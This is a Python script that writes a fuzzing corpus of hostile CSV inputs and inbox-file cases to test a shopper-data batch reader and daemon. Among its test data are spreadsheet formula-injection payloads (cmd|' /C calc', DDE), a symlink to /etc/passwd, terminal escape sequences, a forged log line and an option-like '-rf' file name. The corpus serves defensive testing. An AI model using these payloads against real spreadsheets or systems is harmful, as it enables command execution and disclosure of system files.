#!/usr/bin/env python3
"""Writes the hostile-input corpus: Tests/HostileInputs/cases/* and Tests/HostileInputs/manifest.json.

Run from anywhere: `python3 Tests/HostileInputs/make-cases.py`. The output is committed; this script is
how it was made and how to change it (edit a case here, run, commit both). Semantics of every field
and of each inbox-level generator: docs/reliability-fuzzing.md.

Reader-level cases are decided by the CSV bytes alone and are run by
Tests/ShopperCoreTests/HostileInputTests.swift through BatchReader. Inbox-level cases need the
daemon's inbox handling (file types, names, links, writers still at work, sizes too big to commit);
the daemon's end-to-end tests drive them from their `generator` description.
"""
import gzip
import json
import os
import random

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
CASES = os.path.join(HERE, "cases")

COLUMNS = ["Administrative", "Administrative_Duration", "Informational", "Informational_Duration",
           "ProductRelated", "ProductRelated_Duration", "BounceRates", "ExitRates", "PageValues",
           "SpecialDay", "Month", "OperatingSystems", "Browser", "Region", "TrafficType", "VisitorType",
           "Weekend", "Revenue"]
HEADER = ",".join(COLUMNS)

with open(os.path.join(ROOT, "data", "online_shoppers_intention.csv"), newline="") as f:
    DATA = f.read().splitlines()[1:]
assert DATA[0].split(",") == "0,0,0,0,1,0,0.2,0.2,0,0,Feb,1,1,1,1,Returning_Visitor,FALSE,FALSE".split(",")


def real(i):
    """The i-th data row of the bundled file (0-based), as a list of 18 cells."""
    return DATA[i].split(",")


def row(i=0, **cells):
    """A bundled row with some cells replaced (keyword = column name)."""
    out = real(i)
    for name, value in cells.items():
        out[COLUMNS.index(name)] = value
    return ",".join(out)


def rows(n, start=0):
    return [",".join(real(start + k)) for k in range(n)]


def text(lines, end="\n", final=True):
    body = end.join(lines) + (end if final else "")
    return body.encode("utf-8")


def issue(line, column, value, reason):
    """How BatchError.description lists one issue."""
    return 'line %d, column %s, value "%s": %s' % (line, column, value, reason)


cases = []
group = None  # set before each section; recorded with each case


def case(name, data, expect, reason=None, description="", **extra):
    path = "cases/" + name + ".csv"
    with open(os.path.join(HERE, path), "wb") as f:
        f.write(data)
    entry = {"name": name, "level": "reader", "group": group, "file": path, "description": description, "expect": expect}
    if reason is not None:
        entry["reason"] = reason
    entry.update(extra)
    cases.append(entry)


def inbox(name, generator, expect, reason=None, description="", **extra):
    entry = {"name": name, "level": "inbox", "group": group, "generator": generator, "description": description, "expect": expect}
    if reason is not None:
        entry["reason"] = reason
    entry.update(extra)
    cases.append(entry)


os.makedirs(CASES, exist_ok=True)
for old in os.listdir(CASES):
    os.remove(os.path.join(CASES, old))

# ---------------------------------------------------------------- framing: empty, header, line ends
group = "framing"
case("empty-file", b"", "rejected", "the file is empty", "zero bytes")
case("only-bom", b"\xef\xbb\xbf", "rejected", "the file is empty", "a UTF-8 byte-order mark and nothing else")
case("only-blank-lines", b"\n\r\n\r\n\n", "rejected", "the file is empty", "LF, CRLF, CR: blank lines only")
case("header-only", text([HEADER]), "rejected", "the file has a header but no data rows", "the header line, then nothing")
case("header-only-no-newline", HEADER.encode(), "rejected", "the file has a header but no data rows",
     "the header without a line terminator")
case("header-then-blank-lines", text([HEADER, "", "", ""], end="\r\n"), "rejected",
     "the file has a header but no data rows", "blank lines after the header are not rows")
case("valid-lf", text([HEADER] + rows(5)), "accepted", description="five bundled rows, LF", rows=5)
case("valid-crlf", text([HEADER] + rows(5), end="\r\n"), "accepted", description="CRLF line ends", rows=5)
case("valid-cr-only", text([HEADER] + rows(5), end="\r"), "accepted", description="lone CR line ends (classic Mac)", rows=5)
case("mixed-line-ends", (HEADER + "\r\n" + DATA[0] + "\n" + DATA[1] + "\r" + DATA[2] + "\r\n" + DATA[3]).encode(),
     "accepted", description="CRLF, LF, CR and no final newline in one file", rows=4)
case("blank-lines-everywhere", ("\n\n" + HEADER + "\n\n" + DATA[0] + "\n\n\n" + DATA[1]).encode(), "accepted",
     description="blank lines before the header and between rows", rows=2)
case("duplicate-rows", text([HEADER, DATA[0], DATA[0], DATA[0]]), "accepted",
     description="the same row three times: kept, two flagged as duplicates", rows=3, duplicates=2)

# ---------------------------------------------------------------- byte-order marks and encodings
group = "encodings"
sample = "\n".join([HEADER] + rows(3)) + "\n"
case("bom-utf8-valid", b"\xef\xbb\xbf" + sample.encode(), "accepted", description="UTF-8 BOM, skipped", rows=3)
case("bom-utf16le", b"\xff\xfe" + sample.encode("utf-16-le"), "rejected",
     "the file is UTF-16 encoded (byte-order mark); save it as UTF-8", "UTF-16 little-endian with its BOM")
case("bom-utf16be", b"\xfe\xff" + sample.encode("utf-16-be"), "rejected",
     "the file is UTF-16 encoded (byte-order mark); save it as UTF-8", "UTF-16 big-endian with its BOM")
case("bom-utf32le", b"\xff\xfe\x00\x00" + sample.encode("utf-32-le"), "rejected",
     "the file is UTF-32 encoded (byte-order mark); save it as UTF-8", "UTF-32 little-endian with its BOM")
case("bom-utf32be", b"\x00\x00\xfe\xff" + sample.encode("utf-32-be"), "rejected",
     "the file is UTF-32 encoded (byte-order mark); save it as UTF-8", "UTF-32 big-endian with its BOM")
case("utf16le-without-bom", sample.encode("utf-16-le"), "rejected",
     "not a UTF-8 CSV file (line 1): NUL byte at offset 1: binary data (or UTF-16/UTF-32 text without a byte-order mark)",
     "UTF-16 with no BOM: every other byte is NUL")
case("bom-twice", b"\xef\xbb\xbf\xef\xbb\xbf" + sample.encode(), "rejected",
     issue(1, "Administrative", "\\u{FEFF}Administrative",
           'required column Administrative is missing: the header has "\\u{FEFF}Administrative", which has invisible characters'),
     "two concatenated exports: the second BOM sticks to the first header name")
case("bom-before-a-data-row", (HEADER + "\n" + DATA[0] + "\n\ufeff" + DATA[1] + "\n").encode(), "rejected",
     issue(3, "Administrative", "\\u{FEFF}0", "a page count must be a non-negative whole number (digits only)"),
     "a BOM in the middle of the file (files appended to each other)")
latin1 = (HEADER + ",Note\n" + DATA[0] + ",Café crème\n").encode("latin-1")
case("latin1-file", latin1, "rejected", issue(2, "Note", "Caf\ufffd cr\ufffdme", "not valid UTF-8 text"),
     "saved as Latin-1: é is the lone byte 0xE9")
case("gzip-compressed", gzip.compress(sample.encode(), mtime=0), "rejected",
     "not a UTF-8 CSV file (line 1): NUL byte at offset 3", "a gzip file named .csv")
case("png-signature", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10", "rejected",
     "not a UTF-8 CSV file (line 3): NUL byte at offset 8", "binary data (a PNG header: two LF bytes before its first NUL)")

# ---------------------------------------------------------------- NUL bytes
group = "nul-bytes"
nul_row = (HEADER + "\n" + DATA[0] + "\n").encode()
case("nul-in-data-row", nul_row + b"0,0,0,0,1,0,0.2,0.2,0,0,F\x00b,1,1,1,1,Returning_Visitor,FALSE,FALSE\n", "rejected",
     "not a UTF-8 CSV file (line 3): NUL byte at offset %d" % (len(nul_row) + 25), "a NUL byte inside a cell")
case("nul-in-header", b"Administrative\x00," + HEADER.encode() + b"\n" + DATA[0].encode() + b"\n", "rejected",
     "not a UTF-8 CSV file (line 1): NUL byte at offset 14", "a NUL byte in the header")
case("nul-at-end", nul_row + b"\x00", "rejected", "not a UTF-8 CSV file (line 3): NUL byte at offset %d" % len(nul_row),
     "a trailing NUL (a C string written with its terminator)")

# ---------------------------------------------------------------- invalid UTF-8 in cells
group = "invalid-utf8"
note_header = HEADER + ",Note"
def note_file(note_bytes):
    return (note_header + "\n" + DATA[0] + ",").encode() + note_bytes + b"\n"
case("invalid-utf8-lone-continuation", note_file(b"ab\x80cd"), "rejected",
     issue(2, "Note", "ab\ufffdcd", "not valid UTF-8 text"), "a continuation byte with no lead byte")
case("invalid-utf8-truncated-at-eof", note_file(b"\xe2\x82")[:-1], "rejected",
     issue(2, "Note", "\ufffd", "not valid UTF-8 text"), "a 3-byte sequence cut after 2 bytes at the end of the file")
case("overlong-utf8-slash", note_file(b"..\xc0\xafetc"), "rejected",
     issue(2, "Note", "..\ufffd\ufffdetc", "not valid UTF-8 text"), "overlong encoding of '/' (C0 AF)")
case("overlong-utf8-nul", note_file(b"a\xc0\x80b"), "rejected",
     issue(2, "Note", "a\ufffd\ufffdb", "not valid UTF-8 text"), "overlong encoding of NUL (C0 80, 'modified UTF-8')")
case("utf8-surrogate", note_file(b"\xed\xa0\x80"), "rejected",
     issue(2, "Note", "\ufffd\ufffd\ufffd", "not valid UTF-8 text"), "an encoded UTF-16 surrogate (CESU-8)")
case("utf8-above-unicode", note_file(b"\xf4\x90\x80\x80"), "rejected",
     issue(2, "Note", "\ufffd\ufffd\ufffd\ufffd", "not valid UTF-8 text"), "a code point above U+10FFFF")
case("invalid-utf8-in-typed-cell", (HEADER + "\n").encode() + row(Month="F\udce9b").encode("utf-8", "surrogateescape") + b"\n",
     "rejected", issue(2, "Month", "F\ufffdb", "not a month"), "Latin-1 é in the Month column")
case("invalid-utf8-header", (HEADER + ",Caf").encode() + b"\xe9\n" + DATA[0].encode() + b",x\n", "rejected",
     "not a UTF-8 CSV file (line 1): the header line is not UTF-8 text", "a Latin-1 header name")
case("valid-unicode-extras", (note_header + "\n" + DATA[0] + ",\U0001F6D2 caf\u00e9 \u202eevil\u202c \u200d\u0301\n").encode(),
     "accepted", description="emoji, accents, a right-to-left override, a zero-width joiner in an extra column: valid text, kept",
     rows=1, unknownColumns=["Note"])

# ---------------------------------------------------------------- quoting
group = "quoting"
case("unterminated-quote", text([HEADER, DATA[0], row(1, VisitorType='"Returning_Visitor'), DATA[2], DATA[3]]), "rejected",
     "a quoted field opened on line 3 is never closed", "a quote opens and never closes: rows cannot be delimited after it")
case("unterminated-quote-at-eof", text([HEADER, DATA[0]]) + b'"', "rejected", "a quoted field opened on line 3 is never closed",
     "the file ends with a lone quote")
case("unterminated-quote-in-header", text(['"' + HEADER, DATA[0]]), "rejected",
     "a quoted field opened on line 1 is never closed", "the header's first name opens a quote")
case("unterminated-quote-quarantine", text([HEADER, DATA[0], row(1, Month='"Feb'), DATA[2]]), "rejected",
     "a quoted field opened on line 3 is never closed", "fatal under quarantine-rows too", policy="quarantine-rows")
case("stray-quote", text([HEADER, row(Month='Fe"b')]), "rejected",
     issue(2, "Month", 'Fe"b', "stray quote: a quote may only open a quoted field"), "a quote inside an unquoted cell")
case("text-after-closing-quote", text([HEADER, row(Month='"Feb"x')]), "rejected",
     issue(2, "Month", '"Feb"x', "text after the closing quote of a quoted field"), '"Feb"x')
case("escaped-quote-in-typed-cell", text([HEADER, row(Month='"Fe""b"')]), "rejected",
     issue(2, "Month", 'Fe"b', "contains a quote character, which no Month value can"), 'a doubled quote in a quoted Month')
case("all-cells-quoted", text([",".join('"%s"' % c for c in COLUMNS)] + [",".join('"%s"' % c for c in real(k)) for k in range(3)]),
     "accepted", description="every name and cell quoted", rows=3)
multi = '"first line\nsecond, with comma\nthird ""quoted"""'
case("quoted-line-breaks-shift-lines", text([note_header, DATA[0] + "," + multi, row(1, BounceRates="2") + ",x"]), "rejected",
     issue(5, "BounceRates", "2", "BounceRates must be between 0 and 1"),
     "a quoted cell spanning three lines: the next record starts on line 5 and is reported there")
case("quoted-line-break-in-typed-cell", text([HEADER, row(Month='"Fe\nb"')]), "rejected",
     issue(2, "Month", "Fe\\nb", "not a month"), "a line break inside a quoted Month (shown escaped)")

# ---------------------------------------------------------------- ragged rows, columns
group = "columns"
case("ragged-short-row", text([HEADER, DATA[0], ",".join(real(1)[:17]), DATA[2]]), "rejected",
     issue(3, "(record)", "17 fields", "expected 18 fields as in the header, found 17"), "a row with a cell missing")
case("ragged-long-row", text([HEADER, DATA[0], DATA[1] + ",extra", DATA[2]]), "rejected",
     issue(3, "(record)", "19 fields", "expected 18 fields as in the header, found 19"), "a row with a cell too many")
case("trailing-comma-on-rows", text([HEADER] + [r + "," for r in rows(2)]), "rejected",
     issue(2, "(record)", "19 fields", "expected 18 fields as in the header, found 19"), "every row ends with a comma, the header not")
case("trailing-comma-everywhere", text([HEADER + ","] + [r + "," for r in rows(2)]), "accepted",
     description="header and rows end with a comma: one extra column with an empty name, ignored", rows=2, unknownColumns=[""])
case("decimal-comma-unquoted", text([HEADER, row(BounceRates="0,5")]), "rejected",
     issue(2, "(record)", "19 fields", "expected 18 fields as in the header, found 19"), "0,5 splits into two cells")
case("semicolon-separated", text([";".join(COLUMNS), ";".join(real(0))]), "rejected",
     "the first line is not a header", "a European export: semicolons, so one field per line")
case("no-header", text(rows(3)), "rejected", "the first line is not a header", "data from the first line")
case("prose", b"Dear operator,\nplease find the data attached.\n", "rejected", "the first line is not a header",
     "a text file that is not CSV at all")
case("missing-column", text([",".join(c for c in COLUMNS if c != "Month"), ",".join(c for k, c in enumerate(real(0)) if k != 10)]),
     "rejected", issue(1, "Month", "", "required column Month is missing"), "no Month column")
case("missing-two-columns", text([",".join(COLUMNS[:13] + COLUMNS[15:]), ",".join(real(0)[:13] + real(0)[15:])]), "rejected",
     issue(1, "TrafficType", "", "required column TrafficType is missing"), "Region and TrafficType absent (both listed)")
case("duplicated-column", text([HEADER + ",ExitRates", DATA[0] + ",0.3"]), "rejected",
     issue(1, "ExitRates", "ExitRates", "column ExitRates appears twice (fields 8 and 19)"), "ExitRates twice")
case("duplicated-column-other-case", text([HEADER + ", exitrates ", DATA[0] + ",0.3"]), "rejected",
     issue(1, "ExitRates", "exitrates", "column ExitRates appears twice (fields 8 and 19)"),
     "ExitRates and ' exitrates ': names match case-insensitively after trimming")
case("header-stray-quote", text([HEADER.replace("Month", 'Mo"nth'), DATA[0]]), "rejected",
     'stray quote in header name Mo"nth', "a quote inside a header name")
case("header-no-break-space", text([HEADER.replace("Month", "Month\u00a0"), DATA[0]]), "rejected",
     issue(1, "Month", "Month\u00a0", "required column Month is missing: the header has"),
     "Month followed by a no-break space (U+00A0)")
case("header-any-case-padded", text([",".join(" %s\t" % (c.upper() if k % 2 else c.lower()) for k, c in enumerate(COLUMNS)), DATA[0]]),
     "accepted", description="header names in any case with blanks around them", rows=1)
case("columns-reordered-with-extras", text(["Note," + ",".join(reversed(COLUMNS)) + ",Campaign"] +
                                           ["n%d," % k + ",".join(reversed(real(k))) + ",c" for k in range(3)]),
     "accepted", description="columns in reverse order, unknown columns before and after", rows=3, unknownColumns=["Note", "Campaign"])
case("unlabelled", text([",".join(COLUMNS[:-1])] + [",".join(real(k)[:-1]) for k in range(3)]), "accepted",
     description="no Revenue column: an unlabelled batch", rows=3, labelled=False)
many = 4000
case("many-columns", text([HEADER + "".join(",x%d" % k for k in range(many))] + [r + "," * many for r in rows(2)]), "accepted",
     description="%d extra (unknown) columns" % many, rows=2, unknownColumnCount=many)
case("too-many-columns", text([HEADER + ",x" * 4100, DATA[0] + "," * 4100]), "rejected",
     issue(1, "(record)", "4118 fields", "the header has 4118 fields; a batch has at most 4096 columns"), "a header of 4,118 fields")
case("very-wide-row", text([HEADER, DATA[0] + "," * 20000, DATA[1]]), "rejected",
     issue(2, "(record)", "20018 fields", "expected 18 fields as in the header, found 20018"), "a row of 20,018 fields")
case("very-wide-cell-unknown-column", text([note_header, DATA[0] + "," + "n" * 20000]), "accepted",
     description="a 20,000-character cell in an extra column", rows=1)
case("very-wide-cell-typed", text([HEADER, row(Administrative="1" * 20000)]), "rejected",
     issue(2, "Administrative", "1" * 120 + "\u2026", "page count too large: at most 1000000000000"),
     "a 20,000-digit page count (value shortened to 120 characters in the report)")

# ---------------------------------------------------------------- numbers
group = "numbers"
case("nan", text([HEADER, row(BounceRates="NaN")]), "rejected",
     issue(2, "BounceRates", "NaN", "not a decimal number"), "NaN")
case("inf", text([HEADER, row(ProductRelated_Duration="inf")]), "rejected",
     issue(2, "ProductRelated_Duration", "inf", "not a decimal number"), "inf")
case("negative-infinity", text([HEADER, row(PageValues="-Infinity")]), "rejected",
     issue(2, "PageValues", "-Infinity", "not a decimal number"), "-Infinity")
case("negative-zero", text([HEADER, row(Administrative="-0", Administrative_Duration="-0.0", BounceRates="-0", PageValues="-0e5")]),
     "accepted", description="-0 everywhere it can be: read as 0 (one zero)", rows=1)
case("negative-count", text([HEADER, row(Administrative="-1")]), "rejected",
     issue(2, "Administrative", "-1", "a page count cannot be negative"), "a negative page count")
case("negative-duration", text([HEADER, row(Informational_Duration="-0.1")]), "rejected",
     issue(2, "Informational_Duration", "-0.1", "a duration cannot be negative"), "a negative duration")
case("negative-page-values", text([HEADER, row(PageValues="-5")]), "rejected",
     issue(2, "PageValues", "-5", "PageValues cannot be negative"), "negative PageValues")
case("rate-above-one", text([HEADER, row(BounceRates="1.5")]), "rejected",
     issue(2, "BounceRates", "1.5", "BounceRates must be between 0 and 1"), "BounceRates 1.5")
case("rate-one-ulp-above-one", text([HEADER, row(ExitRates="1.0000000000000002")]), "rejected",
     issue(2, "ExitRates", "1.0000000000000002", "ExitRates must be between 0 and 1"), "the next Double after 1")
case("special-day-out-of-range", text([HEADER, row(SpecialDay="2")]), "rejected",
     issue(2, "SpecialDay", "2", "SpecialDay must be between 0 and 1"), "SpecialDay 2")
case("code-zero", text([HEADER, row(Browser="0")]), "rejected",
     issue(2, "Browser", "0", "a category code must be a positive whole number"), "Browser 0")
case("code-negative", text([HEADER, row(Region="-3")]), "rejected",
     issue(2, "Region", "-3", "a category code must be a positive whole number"), "Region -3")
case("overflow-double", text([HEADER, row(PageValues="1e400")]), "rejected",
     issue(2, "PageValues", "1e400", "number too large: not finite"), "1e400 overflows a Double")
case("overflow-huge-exponent", text([HEADER, row(ProductRelated_Duration="1e99999999999999999999")]), "rejected",
     issue(2, "ProductRelated_Duration", "1e99999999999999999999", "number too large: not finite"), "an exponent beyond any integer type")
case("underflow-to-zero", text([HEADER, row(Administrative_Duration="1e-400", BounceRates="4.9e-325")]), "accepted",
     description="1e-400 and half the smallest subnormal round to 0, the nearest Double", rows=1)
case("count-twenty-nines", text([HEADER, row(Administrative="99999999999999999999")]), "rejected",
     issue(2, "Administrative", "99999999999999999999", "page count too large: at most 1000000000000"), "a count beyond 64 bits")
case("count-int64-max", text([HEADER, row(Administrative="9223372036854775807", Informational="1")]), "rejected",
     issue(2, "Administrative", "9223372036854775807", "page count too large: at most 1000000000000"),
     "Int.max: TotalPages would overflow (it trapped before the 10^12 ceiling)")
case("duration-near-double-max", text([HEADER, row(ProductRelated_Duration="1.7e308")]), "rejected",
     issue(2, "ProductRelated_Duration", "1.7e308", "ProductRelated_Duration too large: at most 1000000000000"),
     "finite, but TotalDuration would be infinite")
case("code-overflow", text([HEADER, row(TrafficType="99999999999999999999")]), "rejected",
     issue(2, "TrafficType", "99999999999999999999", "category code too large"), "a code beyond 64 bits")
case("largest-accepted-values", text([HEADER, row(Administrative="1000000000000", ProductRelated="1000000000000",
                                                  ProductRelated_Duration="1e12", PageValues="1000000000000.0", ExitRates="0")]),
     "accepted", description="exactly the 10^12 ceilings", rows=1)
case("hex-numerals", text([HEADER, row(Administrative="0x10", Administrative_Duration="0x1p3")]), "rejected",
     issue(2, "Administrative_Duration", "0x1p3", "not a decimal number"), "hexadecimal integer and hex float (both listed)")
case("underscore-numeral", text([HEADER, row(ProductRelated="1_000")]), "rejected",
     issue(2, "ProductRelated", "1_000", "a page count must be a non-negative whole number"), "1_000")
case("thousands-separator-quoted", text([HEADER, row(ProductRelated='"1,000"')]), "rejected",
     issue(2, "ProductRelated", "1,000", "a page count must be a non-negative whole number"), '"1,000"')
case("decimal-comma-quoted", text([HEADER, row(BounceRates='"0,5"')]), "rejected",
     issue(2, "BounceRates", "0,5", "not a decimal number"), '"0,5"')
case("fractional-count", text([HEADER, row(Informational="1.5")]), "rejected",
     issue(2, "Informational", "1.5", "a page count must be a non-negative whole number"), "1.5 pages")
case("exponent-count", text([HEADER, row(ProductRelated="1e3")]), "rejected",
     issue(2, "ProductRelated", "1e3", "a page count must be a non-negative whole number"), "1e3 as a count")
case("full-width-digits", text([HEADER, row(Administrative="\uff11\uff12")]), "rejected",
     issue(2, "Administrative", "\uff11\uff12", "a page count must be a non-negative whole number"), "full-width digits")
case("no-break-space-around-number", text([HEADER, row(Administrative="\u00a01")]), "rejected",
     issue(2, "Administrative", "\u00a01", "a page count must be a non-negative whole number"),
     "a no-break space is not a blank: only spaces and tabs are trimmed")
case("number-spellings", text([HEADER, row(Administrative="+3", Informational="007", BounceRates=".5", ExitRates="5.e-1",
                                           PageValues="1E2", ProductRelated_Duration="  12.5\t")]), "accepted",
     description="+3, 007, .5, 5.e-1, 1E2, padded: all valid", rows=1)
case("long-decimal", text([HEADER, row(BounceRates="0." + "1" * 800, PageValues="0" * 500 + "1")]), "accepted",
     description="800 fraction digits and 500 leading zeros: exact via strtod", rows=1)
case("empty-cell", text([HEADER, row(BounceRates="")]), "rejected",
     issue(2, "BounceRates", "", "missing value (empty cell)"), "an empty cell")
case("blank-cell", text([HEADER, row(Weekend=" \t ")]), "rejected",
     issue(2, "Weekend", "", "missing value (empty cell)"), "a cell of blanks")
case("empty-revenue", text([HEADER, row(Revenue="")]), "accepted",
     description="Revenue blank on every row: no label, an unlabelled batch (not an error)", rows=1, labelled=False)
case("partly-labelled", text([HEADER, row(0, Revenue=""), row(1, Revenue=" \t"), row(2, Revenue="TRUE"), row(3, Revenue='""')]),
     "accepted", description="Revenue blank (empty, blanks, quoted empty) on 3 rows of 4: a partially labelled batch", rows=4,
     labelled=True)

# ---------------------------------------------------------------- categories
group = "categories"
case("month-spellings", text([HEADER] + [row(k, Month=m) for k, m in enumerate(["february", "JUNE", "Sept", "september", "dEc"])]),
     "accepted", description="months in full, any case, Sept", rows=5)
case("month-invalid", text([HEADER, row(Month="Febr")]), "rejected", issue(2, "Month", "Febr", "not a month"), "Febr")
case("month-number", text([HEADER, row(Month="2")]), "rejected", issue(2, "Month", "2", "not a month"), "a month number")
case("visitor-type-invalid", text([HEADER, row(VisitorType="returning visitor")]), "rejected",
     issue(2, "VisitorType", "returning visitor", "not a visitor type"), "a space instead of _")
case("boolean-invalid", text([HEADER, row(Weekend="yes")]), "rejected",
     issue(2, "Weekend", "yes", "not a boolean"), "yes")
case("boolean-spellings", text([HEADER] + [row(k, Weekend=w, Revenue=r) for k, (w, r) in enumerate([("true", "False"), ("1", "0"), ("TRUE", "false")])]),
     "accepted", description="true/False/1/0", rows=3)
case("control-characters-in-typed-cell", text([HEADER, row(Month='"\x1b[2J\x1b[31mNov"')]), "rejected",
     issue(2, "Month", "\\u{1B}[2J\\u{1B}[31mNov", "not a month"),
     "terminal escape sequences in a cell: shown escaped in the report, never sent to a terminal")
case("forged-report-line", text([HEADER, row(Month='"Feb\nbatch.csv: stored as version 9"'), DATA[1]]), "rejected",
     issue(2, "Month", "Feb\\nbatch.csv: stored as version 9", "not a month"),
     "a quoted line break followed by a fake log line: the report keeps it on one line")

# ---------------------------------------------------------------- formula injection
group = "formula-injection"
formulas = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1,2"]
def quoted(cell):
    return '"' + cell.replace('"', '""') + '"'
case("formula-cells-in-extra-column", text([note_header] + [row(k) + "," + quoted(f) for k, f in enumerate(formulas)]), "accepted",
     description="spreadsheet formulas (=, +, -, @, tab, CR) in an extra column: valid text, kept in bronze, neutralised when written",
     rows=len(formulas), formulaCells=formulas)
case("formula-header-name", text([HEADER + ',"=cmd|\' /C calc\'!A0"', DATA[0] + ",x"]), "accepted",
     description="a formula as an extra column's name", rows=1, unknownColumns=["=cmd|' /C calc'!A0"], formulaCells=["=cmd|' /C calc'!A0"])
case("formula-month", text([HEADER, row(Month="=1+1")]), "rejected", issue(2, "Month", "=1+1", "not a month"), "=1+1 as a month")
case("formula-visitor-type", text([HEADER, row(VisitorType="@SUM(A1)")]), "rejected",
     issue(2, "VisitorType", "@SUM(A1)", "not a visitor type"), "@SUM(A1) as a visitor type")
case("formula-boolean", text([HEADER, row(Weekend="+TRUE")]), "rejected",
     issue(2, "Weekend", "+TRUE", "not a boolean"), "+TRUE")
case("formula-count", text([HEADER, row(Administrative="-1+1")]), "rejected",
     issue(2, "Administrative", "-1+1", "a page count must be a non-negative whole number"), "-1+1 as a count")
case("formula-dde-code", text([HEADER, row(OperatingSystems="=DDE(\"cmd\";\"/C calc\";\"x\")")]), "rejected",
     issue(2, "OperatingSystems", '=DDE("cmd";"/C calc";"x")', "stray quote"), "a DDE payload in a code column, unquoted")
case("formula-looking-numbers-valid", text([HEADER, row(Administrative="+3", BounceRates="+0.25", PageValues="-0", Month="\tFeb")]),
     "accepted", description="+3, +0.25, -0 and a tab before Feb: valid data that looks like formulas; written back as 3, 0.25, 0, Feb",
     rows=1)

# ---------------------------------------------------------------- policies and limits
group = "policies-limits"
mixed = [DATA[0], row(1, BounceRates="1.5"), DATA[2], row(3, Month="Smarch"), DATA[4]]
case("quarantine-some-rows", text([HEADER] + mixed), "accepted",
     description="quarantine-rows keeps 3 valid rows and sets 2 aside", policy="quarantine-rows", rows=3, quarantined=2)
case("reject-some-rows", text([HEADER] + mixed), "rejected", "2 of 5 rows are invalid (2 problems)",
     "the same file under reject: refused whole")
case("quarantine-no-valid-row", text([HEADER, row(BounceRates="2"), row(1, Month="x")]), "rejected",
     "none of the 2 rows is valid (2 problems)", "quarantine-rows with nothing to keep", policy="quarantine-rows")
case("many-invalid-rows", text([HEADER] + ["x"] * 1200), "rejected", "1200 of 1200 rows are invalid (1200 problems)",
     "1,200 ragged rows: the first 1,000 issues listed, all counted")
size = len(text([HEADER] + rows(3)))
case("over-max-bytes", text([HEADER] + rows(3)), "rejected",
     "the file has %d bytes, more than the limit of %d bytes" % (size, size - 1), "one byte over BatchReader(maxBytes:)",
     maxBytes=size - 1)
case("at-max-bytes", text([HEADER] + rows(3)), "accepted", description="exactly maxBytes", maxBytes=size, rows=3)

# ---------------------------------------------------------------- inbox level (the daemon's inbox handling)
group = "inbox"
valid = "cases/valid-lf.csv"  # generator paths are relative to Tests/HostileInputs; this one: 5 valid labelled rows
inbox("single-line-200mb", {"kind": "bytes", "name": "one-line.csv", "size": 209715200, "fill": "a", "newline": False,
                            "config": {"max-file-bytes": 268435456}},
      "rejected", "the first line is not a header",
      "209,715,200 bytes of 'a' with no line break, under a 256 MiB limit: read (200 MB), refused as content, bounded memory")
inbox("commas-200mb", {"kind": "bytes", "name": "commas.csv", "prefix": "header", "size": 209715200, "fill": ",", "newline": True,
                       "config": {"max-file-bytes": 268435456}},
      "rejected", "expected 18 fields as in the header, found",
      "the header, then one 200 MB line of commas (hundreds of millions of fields): refused in about a second, without GBs of memory")
inbox("over-size-limit", {"kind": "copy-repeated", "source": "cases/valid-lf.csv", "name": "big.csv", "minSize": 65537,
                          "config": {"max-file-bytes": 65536}},
      "rejected", "over the 65536-byte limit", "a valid batch, rows repeated past a 64 KiB limit: refused from its size")
inbox("sparse-8gib", {"kind": "sparse", "name": "sparse.csv", "size": 8589934592},
      "rejected", "-byte limit", "an 8 GiB sparse file (ftruncate): refused from fstat within a second, never read")
inbox("fifo", {"kind": "fifo", "name": "pipe.csv"}, "rejected", "FIFO",
      "mkfifo in the inbox, no writer: refused without blocking; a valid batch dropped next is processed")
inbox("fifo-with-writer", {"kind": "fifo", "name": "pipe2.csv", "writer": valid},
      "rejected", "FIFO", "a FIFO with a live writer: still refused, never read")
inbox("character-device", {"kind": "char-device", "name": "null.csv", "major": 1, "minor": 3}, "rejected", "device node",
      "mknod c 1 3 (needs CAP_MKNOD, as root in CI): refused without opening")
inbox("unix-socket", {"kind": "socket", "name": "sock.csv"}, "rejected", "socket", "a bound UNIX socket named .csv")
inbox("directory", {"kind": "directory", "name": "folder.csv", "contains": [valid]}, "rejected", "directory",
      "a directory named .csv holding a valid batch: refused, never entered")
inbox("symlink-outside-valid", {"kind": "symlink", "name": "link.csv", "target": "outside/valid.csv", "targetContent": valid},
      "rejected", "symbolic link",
      "a symlink to a valid batch outside the inbox: refused without following; the store gains no version, the target is untouched")
inbox("symlink-outside-secret", {"kind": "symlink", "name": "passwd.csv", "target": "/etc/passwd"}, "rejected", "symbolic link",
      "a symlink to a system file: refused; no byte of it in the store, the outbox or the journal")
inbox("symlink-dangling", {"kind": "symlink", "name": "dangling.csv", "target": "outside/missing.csv"}, "rejected", "symbolic link",
      "a symlink to nothing")
inbox("symlink-inside-inbox", {"kind": "symlink", "name": "alias.csv", "target": "inbox/real.csv", "targetContent": valid},
      "rejected", "symbolic link", "a symlink to another inbox file: the link refused, the real file processed once on its own")
inbox("symlink-to-directory", {"kind": "symlink", "name": "dirlink.csv", "target": "outside/"}, "rejected", "symbolic link",
      "a symlink to a directory outside")
inbox("hardlink-outside", {"kind": "hardlink", "name": "hard.csv", "target": "outside/valid.csv", "targetContent": valid},
      "rejected", "hard link",
      "link(2) of a file outside the inbox (same file system): refused (2 names), the outside file unchanged")
inbox("name-with-newline", {"kind": "file", "name": "bad\nname.csv", "content": valid}, "accepted",
      description="a newline in the name: processed; logs show it escaped (bad\\nname.csv), outbox stem bad_name")
inbox("name-with-spaces", {"kind": "file", "name": "my batch 01.csv", "content": valid}, "accepted",
      description="spaces in the name")
inbox("name-leading-dash", {"kind": "file", "name": "-rf --no-preserve-root.csv", "content": valid}, "accepted",
      description="a name that looks like options: never passed to a shell or as an argument; outbox stem starts with _")
inbox("name-non-utf8", {"kind": "file", "nameBytes": "636166e92e637376", "content": valid}, "accepted",
      description="the name caf\\xE9.csv (Latin-1 é): opened by its exact bytes, shown as caf\\xE9.csv")
inbox("name-formula", {"kind": "file", "name": "=HYPERLINK(1).csv", "content": valid}, "accepted",
      description="a formula as the file name: any CSV cell holding the name is neutralised")
inbox("name-255-bytes", {"kind": "file", "name": "n" * 251 + ".csv", "content": valid}, "accepted",
      description="the longest name Linux allows: outbox stem at most 120 bytes")
